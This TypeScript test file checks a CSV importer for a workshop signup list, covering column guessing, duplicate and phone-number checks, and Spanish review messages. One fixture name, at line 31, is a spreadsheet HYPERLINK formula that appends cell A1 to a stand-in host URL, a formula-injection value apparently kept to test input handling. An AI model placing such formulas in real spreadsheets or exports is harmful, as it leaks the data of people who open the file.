/** A whole list as a programme sends it, from its bytes to what is said of each line. */
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { dayOf } from '../../calendar/day'
import { decode, guessColumns, type Plan, parse, plan, type Sheet, summary } from './index'

const read = (path: string): { readonly sheet: Sheet; readonly planned: Plan; readonly columns: readonly string[] } => {
  const decoded = decode(readFileSync(path))
  if (!decoded.ok) throw new Error(decoded.problem.es)
  expect(decoded.value.encoding).toBe('windows-1252')
  const parsed = parse(decoded.value.text)
  if (!parsed.ok) throw new Error(parsed.problem.es)
  const { headings, rows } = parsed.value
  const place = { country: 'AR' } as const
  const columns = guessColumns(
    headings?.cells,
    rows.map(({ cells }) => cells),
    place,
  )
  const today = dayOf(2026, 11, 22)
  if (today === undefined) throw new Error('no such day')
  const planned = plan(rows, headings, columns, { place, existing: () => [], dateOrder: 'dmy', today })
  return { sheet: parsed.value, planned, columns: columns.map(({ use }) => (use.as === 'field' ? use.field : use.as)) }
}

describe('the list of a workshop', () => {
  const { sheet, planned, columns } = read(join(__dirname, 'testdata', 'inscriptos.csv'))

  test('has the columns that it says', () => {
    expect(sheet.headings?.cells[0]).toBe('Apellido y nombre')
    expect(columns).toEqual(['full_name', 'phone', 'own', 'own', 'birth_date', 'notes'])
  })

  test('is counted line by line', () => {
    expect(planned.counts).toEqual({
      new: 33,
      here: 0,
      repeated: 5,
      review: 13,
      no_phone: 4,
      empty: 2,
      headings: 1,
      left_out: 0,
      alerts: 7,
    })
    expect(summary(planned.counts).es).toBe('33 entran, 17 para revisar, 5 repetidas')
  })

  test.each([
    [3, 'repeated', 'Es la misma persona que la fila 2. Queda Taller elegido: Costura, Panadería.'],
    [11, 'review', 'Al número le faltan cifras.'],
    [12, 'review', 'La planilla acortó el número y se perdieron las últimas cifras.'],
    [13, 'no_phone', 'Dice que no tiene teléfono.'],
    [14, 'no_phone', 'No tiene teléfono.'],
    [16, 'review', 'Ese teléfono también es de Zoë Fernández (fila 15).'],
    [17, 'review', 'Hay más de un número en la celda.'],
    [21, 'repeated', 'Es la misma persona que la fila 20.'],
    [23, 'repeated', 'Es la misma persona que la fila 22. Queda Taller elegido: Panadería, Soldadura.'],
    [26, 'review', 'Ese teléfono también es de Sol Heredia (fila 25).'],
    [28, 'review', 'Hay más de un número en la celda.'],
    [32, 'review', 'Hay una letra en medio del número.'],
    [33, 'review', 'No queda claro cuál es el número.'],
    [34, 'review', 'Le falta el código de área.'],
    [36, 'repeated', 'Es la misma persona que la fila 35. Queda Taller elegido: Soldadura, Costura.'],
    [40, 'no_phone', 'Dice que no tiene teléfono.'],
    [42, 'repeated', 'Es la misma persona que la fila 41. Queda Taller elegido: Panadería, Costura.'],
    [43, 'review', 'No hay ningún número en la celda.'],
    [45, 'review', 'No existe un número así.'],
    [48, 'review', 'Ese teléfono también es de Simón Páez (fila 47).'],
    [55, 'review', 'No queda claro cuál es el número.'],
    [58, 'no_phone', 'No tiene teléfono.'],
  ])('line %d is %s: %s', (line, kind, why) => {
    expect(planned.rows.find((row) => row.line === line)).toMatchObject({ kind, why: { es: why } })
  })

  test.each([
    [4, 'No tiene código de área; por las cifras solo puede ser 11.'],
    [18, 'Parece fijo. Puede tener WhatsApp; si no le llega, pedile un celular.'],
    [25, '«13/13/2001»: La fecha de nacimiento no se entiende.'],
    [37, '«1/1/2030»: Nadie nació en esa fecha.'],
    [42, 'Nacimiento: la lista dice 20/4/2005 y también 20/4/2004.'],
    [54, 'Parece fijo. Puede tener WhatsApp; si no le llega, pedile un celular.'],
    [56, 'No tiene nombre.'],
  ])('line %d is to be looked at: %s', (line, why) => {
    expect(planned.rows.find((row) => row.line === line)).toMatchObject({ alerts: [{ why: { es: why } }] })
  })

  test.each([
    [7, 'Julián "Tito" Castro', '+5491166881020', '1995-09-07'],
    [9, 'Thaís Chaves', '+5511976543321', '1998-04-23'],
    [22, 'Lía González', '+525543218765', '1999-01-31'],
    [29, 'Eva Ledesma', '+541163331144', '2000-04-01'],
    [31, '=HYPERLINK("http://x.example/?"&A1;"Luna Ramos")', '+5491169990011', '1994-06-27'],
    [41, 'Ximena Moyano', '+541167678989', '2005-04-20'],
    [46, 'Guadalupe Ortiz', '+5491161112233', '1977-07-07'],
    [50, 'Luz Pereyra', '+541166778899', '1982-12-12'],
    [51, 'Nicolás Quiroga', '+5491164445566', '1998-03-08'],
    [52, 'Jazmín Ramírez', '+541168884422', '2001-07-14'],
    [57, 'Lautaro Sosa', '+5491167890123', '1986-06-26'],
  ])('line %d enters as %s, %s, born %s', (line, full_name, phone, birth_date) => {
    expect(planned.rows.find((row) => row.line === line)).toMatchObject({
      kind: 'new',
      person: { fields: { full_name, phone, birth_date } },
    })
  })
})

const SAMPLE = join(process.cwd(), '..', 'shared', 'samples', 'contactos.csv')
const sampleTest = existsSync(SAMPLE) ? test : test.skip

sampleTest(`a longer list, where there is one beside the repository (${SAMPLE})`, () => {
  const { sheet, planned, columns } = read(SAMPLE)
  expect(columns).toEqual(['full_name', 'phone', 'own', 'own', 'birth_date'])
  const lines = [...sheet.titles.map(({ line }) => line), sheet.headings?.line, ...planned.rows.map(({ line }) => line)]
  expect(lines).toEqual(
    readFileSync(SAMPLE, 'latin1')
      .trimEnd()
      .split('\r\n')
      .map((_, at) => at + 1),
  )
  const { alerts, ...buckets } = planned.counts
  expect(Object.values(buckets).reduce((all, some) => all + some, 0)).toBe(planned.rows.length)
  process.stdout.write(`${planned.rows.length} lines: ${summary(planned.counts).es}; ${alerts} to look at\n`)
})
